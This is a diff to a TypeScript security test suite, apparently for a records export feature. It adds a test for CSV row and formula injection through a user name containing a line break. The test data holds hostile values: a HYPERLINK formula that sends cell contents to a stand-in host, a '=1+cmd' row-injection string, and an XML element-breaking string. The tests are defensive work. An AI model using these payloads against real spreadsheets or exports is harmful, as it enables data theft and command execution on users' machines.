@@ -7,6 +7,7 @@ import { handlesFor } from './looks.ts';
 import type { Fork } from './world.ts';
 
 const FORMULA = '=HYPERLINK("http://elders.example/?"&A2;"patiënt")';
+const ROW = 'A. Assistent\n=1+cmd';
 const ELEMENT = '</field></record><record><field key="1">vals';
 
 /** A colleague looks with a program that says `text` for their name; the officer takes the dossier's log along. */
@@ -25,6 +26,12 @@ async function lookedAndTaken(fork: Fork, text: string, kind: FileKind): Promise
 
 /** A cell that a spreadsheet runs: an equals sign right after a separator or an opening quote. */
 const runs = (csv: string): boolean => /(?:^|[;\n])"?[=+@-][A-Z]/m.test(csv);
+/** A row of the file that begins with a formula: what stands in quotes begins none. */
+const begins = (csv: string): boolean =>
+  csv
+    .replaceAll(/"[^"]*"/g, '')
+    .split(/[\r\n]/)
+    .some((row) => row.startsWith('='));
 const quoted = (text: string): string => text.replaceAll('"', '""');
 
 export const exported: readonly Attack[] = [
@@ -41,6 +48,20 @@ export const exported: readonly Attack[] = [
       return runs(csv) ? undefined : 'text behind an apostrophe';
     },
     twin: async (fork) => runs((await lookedAndTaken(fork, FORMULA, 'csv')).replaceAll("'=", '=')),
+  },
+  {
+    name: 'put-a-row-into-an-export',
+    promise: 'P3',
+    who: 'member',
+    does: 'signs on under a name with a line end in it, so that the file has a row more, which begins with a formula',
+    expect: ['text of one cell'],
+    without: 'without its quotes the name ends the row',
+    async play(fork) {
+      const csv = await lookedAndTaken(fork, ROW, 'csv');
+      if (!csv.includes(ROW)) return 'the name is not in the file';
+      return begins(csv) ? undefined : 'text of one cell';
+    },
+    twin: async (fork) => begins((await lookedAndTaken(fork, ROW, 'csv')).replaceAll('"', '')),
   },
   {
     name: 'put-an-element-into-an-export',
